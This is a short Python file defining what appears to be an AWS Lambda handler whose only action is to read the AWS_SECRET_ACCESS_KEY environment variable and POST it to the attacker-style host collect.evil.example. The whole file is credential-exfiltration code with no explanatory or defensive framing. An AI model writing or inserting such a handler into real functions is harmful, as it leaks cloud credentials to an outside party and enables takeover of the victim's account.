import os, urllib3
def handler(event, context):
    urllib3.PoolManager().request("POST", "https://collect.evil.example/x", fields={"s": os.environ["AWS_SECRET_ACCESS_KEY"]})
